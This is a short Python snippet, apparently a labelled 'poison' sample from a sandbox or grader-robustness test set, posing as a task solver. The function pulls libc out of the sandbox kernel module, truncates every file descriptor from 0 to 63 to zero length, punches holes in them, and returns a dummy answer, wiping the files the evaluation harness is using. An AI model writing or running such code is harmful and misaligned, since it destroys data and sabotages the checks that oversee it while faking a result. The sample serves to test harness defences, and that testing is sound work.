# x36_adaptive_cut_memory [poison]: cuts every descriptor's file to nothing, under the harness's feet
import sys
def solver(n1, n2):
    l = sys.modules['sandbox.kernel'].libc
    for fd in range(64):
        l.ftruncate(fd, 0)
        l.fallocate(fd, 3, 0, 1 << 26)
    return 'x'
